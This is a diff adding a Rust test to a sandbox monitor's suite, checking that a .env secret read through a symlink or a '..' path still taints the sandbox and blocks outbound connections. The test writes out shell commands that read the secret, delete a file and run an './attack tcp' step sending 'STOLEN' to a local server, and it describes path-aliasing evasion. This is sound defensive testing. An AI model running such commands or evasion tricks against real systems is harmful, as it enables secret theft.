@@ -314,6 +314,46 @@ fn exfiltration_by_dns_after_reading_a_secret() {
     assert_eq!(tcp.received(), "");
 }
 
+/// The monitor decides most opens on the path as written (when no symlink and no
+/// `..` is on the way). A secret reached under another name — through a symlink,
+/// or by `..` out of a symlinked directory — must still be judged as what it is,
+/// and taint the sandbox.
+#[test]
+fn a_secret_read_under_another_name_still_taints() {
+    let ip = "127.77.0.17";
+    let server = Tcp::new(ip, 443);
+    let f = with_dotenv("alias");
+    std::os::unix::fs::symlink(".env", f.ws.join("notes.txt")).unwrap();
+    // ws/inner -> ws/far/near, so inner/../.env is ws/far/.env to the kernel
+    // (lexically it would be ws/.env, here made absent by reading it in a copy).
+    std::fs::create_dir_all(f.ws.join("far/near")).unwrap();
+    std::fs::write(f.ws.join("far/.env"), "FAR=SECRET\n").unwrap();
+    std::os::unix::fs::symlink(f.ws.join("far/near"), f.ws.join("inner")).unwrap();
+    // Absolute paths: those are the ones decided as written when they can be.
+    let (alias, dotdot) = (f.path("notes.txt"), f.path("inner/../.env"));
+    for (how, read) in [
+        ("a symlink", format!("cat {alias}")),
+        (
+            "dotdot out of a symlinked directory",
+            format!("rm -f .env && cat {dotdot}"),
+        ),
+    ] {
+        let o = f.sh(&format!("{read} && ./attack tcp {ip} 443 STOLEN"));
+        let out = stdout(&o);
+        assert!(
+            out.contains("SECRET"),
+            "{how}: the read itself must work\n{}",
+            show(&o)
+        );
+        assert!(
+            out.contains("socket: errno=1") || out.contains("tcp connect: errno=1"),
+            "{how}: the read did not taint\n{}",
+            show(&o)
+        );
+    }
+    assert_eq!(server.received(), "", "the secret reached the server");
+}
+
 #[test]
 fn an_already_open_tcp_socket_is_shut_down_when_a_secret_is_read() {
     let ip = "127.77.0.14";
